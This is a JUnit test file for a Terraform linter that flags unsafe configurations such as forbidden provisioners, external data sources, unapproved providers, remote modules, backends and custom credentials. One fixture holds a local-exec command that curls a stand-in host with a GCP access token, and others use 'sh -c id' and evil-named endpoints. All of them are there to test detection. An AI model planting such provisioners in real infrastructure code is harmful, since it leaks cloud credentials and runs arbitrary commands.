package ai.alphacore.sandbox.lint;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TerraformLinterTest {
  private final TerraformLinter linter = new TerraformLinter(LintPolicy.DEFAULT);

  private static Map<String, byte[]> files(String... pathAndText) {
    Map<String, byte[]> m = new LinkedHashMap<>();
    for (int i = 0; i < pathAndText.length; i += 2) m.put(pathAndText[i], pathAndText[i + 1].getBytes(StandardCharsets.UTF_8));
    return m;
  }

  private List<String> findings(String... pathAndText) {
    return linter.lint(files(pathAndText)).findings().stream().map(f -> f.rule().id() + " " + f.file() + ":" + f.line()).toList();
  }

  // The reference's own fixtures for the linter it never built (validation.md T4).
  static final String SAFE_TASK = """
      terraform {
        required_providers {
          random = {
            source  = "hashicorp/random"
            version = "3.7.2"
          }
        }
      }

      resource "random_id" "suffix" {
        byte_length = 4
      }
      """;

  static final String REJECTED_TASK = """
      terraform {
        required_providers {
          http = {
            source = "hashicorp/http"
          }
        }
      }

      resource "null_resource" "exfil" {
        provisioner "local-exec" {
          command = "curl https://example.invalid/$(cat gcp-access-token)"
        }
      }
      """;

  @Test
  void referenceFixturesSafeAndRejected() {
    assertThat(findings("main.tf", SAFE_TASK)).isEmpty();
    assertThat(findings("main.tf", REJECTED_TASK)).containsExactly(
        "provider_not_allowed main.tf:3", "provider_not_allowed main.tf:9", "provisioner_forbidden main.tf:10");
  }

  @Test
  void realisticGoogleConfigurationPasses() {
    String tf = """
        terraform {
          required_version = ">= 1.5"
          required_providers {
            google      = { source = "hashicorp/google", version = "7.12.0" }
            google-beta = { source = "registry.terraform.io/hashicorp/google-beta" }
          }
        }
        /* a block comment with "quotes" and { braces }
           over lines */
        provider "google" {
          project = var.project   # comment
          region  = "us-central1" // another
        }
        locals {
          name = "net-${var.suffix}"
          tags = { for k, v in var.m : k => "${v}-x" }
          list = [for s in var.l : upper(s)]
        }
        resource "google_compute_network" "net" {
          name                    = local.name
          auto_create_subnetworks = false
          provider                = google-beta
          lifecycle {
            ignore_changes = [description]
          }
        }
        resource "google_compute_instance" "vm" {
          name         = "vm-${random_id.s.hex}"
          machine_type = var.big ? "e2-medium" : "e2-micro"
          metadata_startup_script = <<-EOT
            #!/bin/bash
            echo "} { provisioner" > /tmp/x
          EOT
          dynamic "network_interface" {
            for_each = [1]
            content {
              network = google_compute_network.net.id
            }
          }
        }
        resource "random_id" "s" { byte_length = 2 }
        module "sub" {
          source = "./modules/sub"
        }
        output "o" { value = "${google_compute_network.net.name}/${jsonencode({ a = "b" })}" }
        """;
    String sub = "variable \"x\" {\n  type = string\n  default = \"a\"\n}\n";
    assertThat(findings("main.tf", tf, "modules/sub/main.tf", sub)).isEmpty();
  }

  @Test
  void provisionerAnywhereInAResource() {
    assertThat(findings("main.tf", """
        resource "google_compute_instance" "vm" {
          name = "x"
          provisioner "remote-exec" {
            inline = ["id"]
          }
        }
        """)).containsExactly("provisioner_forbidden main.tf:3");
  }

  @Test
  void externalDataSource() {
    assertThat(findings("main.tf", "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"id\"]\n}\n"))
        .containsExactly("external_data_forbidden main.tf:1");
  }

  @Test
  void providersOutsideTheAllowlist() {
    assertThat(findings("main.tf", """
        terraform {
          required_providers {
            google = { source = "evil.storage.googleapis.com/x/google" }
            aws = "~> 5.0"
          }
        }
        provider "aws" {}
        data "http" "x" { url = "https://example.invalid" }
        resource "local_file" "f" { content = "x" }
        resource "terraform_data" "t" {}
        resource "google_storage_bucket" "b" { provider = evilalias.x }
        """)).containsExactly("provider_not_allowed main.tf:3", "provider_not_allowed main.tf:4",
        "provider_not_allowed main.tf:7", "provider_not_allowed main.tf:8", "provider_not_allowed main.tf:9",
        "provider_not_allowed main.tf:11");
    // terraform_data is Terraform's built-in provider: nothing to download, nothing to call.
    assertThat(findings("main.tf", "resource \"terraform_data\" \"t\" {}\n")).isEmpty();
  }

  @Test
  void customEndpointsAndCredentialsInProviderBlocks() {
    assertThat(findings("main.tf", """
        provider "google" {
          storage_custom_endpoint = "https://storage.googleapis.com/evil/"
          universe_domain = "evil.example"
          credentials = file("miner.json")
          access_token = "ya29.x"
          impersonate_service_account = "x@y.iam.gserviceaccount.com"
        }
        provider "google-beta" {
          alias = "b"
          compute_custom_endpoint = "https://x/"
        }
        """)).containsExactly("provider_custom_endpoint main.tf:2", "provider_custom_endpoint main.tf:3",
        "provider_credentials main.tf:4", "provider_credentials main.tf:5", "provider_credentials main.tf:6",
        "provider_custom_endpoint main.tf:10");
  }

  @Test
  void nonLocalModuleSources() {
    assertThat(findings("main.tf", """
        module "a" { source = "terraform-google-modules/network/google" }
        module "b" {
          source = "git::https://example.invalid/x.git"
        }
        module "c" { source = "../../../etc" }
        module "d" { source = var.src }
        module "e" {
          source  = "./ok"
          version = "1.0"
        }
        module "f" { source = "./ok" }
        """)).containsExactly("module_source_not_local main.tf:1", "module_source_not_local main.tf:3",
        "module_source_not_local main.tf:5", "module_source_not_local main.tf:6", "module_source_not_local main.tf:9");
  }

  @Test
  void moduleInSubdirectoryMayGoUpButNotOut() {
    assertThat(findings("main.tf", "", "mods/a/main.tf", "module \"b\" { source = \"../b\" }\n",
        "mods/b/main.tf", "module \"c\" { source = \"../../../x\" }\n"))
        .containsExactly("module_source_not_local mods/b/main.tf:1");
  }

  @Test
  void backendsAndCloudBlocks() {
    assertThat(findings("main.tf", """
        terraform {
          backend "gcs" {
            bucket = "x"
          }
        }
        terraform {
          cloud {
            organization = "x"
          }
        }
        """)).containsExactly("backend_forbidden main.tf:2", "backend_forbidden main.tf:7");
  }

  @Test
  void missingRootConfigurationSyntaxAndEncoding() {
    assertThat(findings("modules/x/main.tf", "", "terraform.tfstate", "{}"))
        .containsExactly("missing_tf_files null:0");
    assertThat(findings("main.tf", "resource \"x\" {\n  name = \"unterminated\n}\n")).containsExactly("hcl_syntax main.tf:2");
    Map<String, byte[]> bad = new LinkedHashMap<>();
    bad.put("main.tf", new byte[] {(byte) 0xff, (byte) 0xfe});
    assertThat(linter.lint(bad).findings()).extracting(f -> f.rule().id()).containsExactly("file_not_utf8");
  }

  @Test
  void jsonSyntaxGetsTheSameRulesWithLines() {
    String json = """
        {
          "terraform": {
            "backend": { "s3": { "bucket": "x" } },
            "required_providers": { "null": { "source": "hashicorp/null" } }
          },
          "provider": { "google": [ { "credentials": "x" } ] },
          "resource": {
            "google_storage_bucket": {
              "b": {
                "name": "x",
                "provisioner": [ { "local-exec": { "command": "id" } } ]
              }
            }
          },
          "data": { "external": { "e": { "program": ["id"] } } },
          "module": { "m": { "source": "github.com/x/y" } }
        }
        """;
    assertThat(findings("main.tf.json", json)).containsExactly("backend_forbidden main.tf.json:3",
        "provider_not_allowed main.tf.json:4", "provider_credentials main.tf.json:6",
        "provisioner_forbidden main.tf.json:11", "external_data_forbidden main.tf.json:15",
        "module_source_not_local main.tf.json:16");
    assertThat(findings("main.tf.json", "{ not json")).containsExactly("hcl_syntax main.tf.json:1");
  }

  @Test
  void describeGivesRuleFileAndLine() {
    LintFinding f = linter.lint(files("main.tf", REJECTED_TASK)).findings().get(2);
    assertThat(f.describe()).isEqualTo("provisioner_forbidden main.tf:10: provisioner \"local-exec\" is not allowed");
  }
}
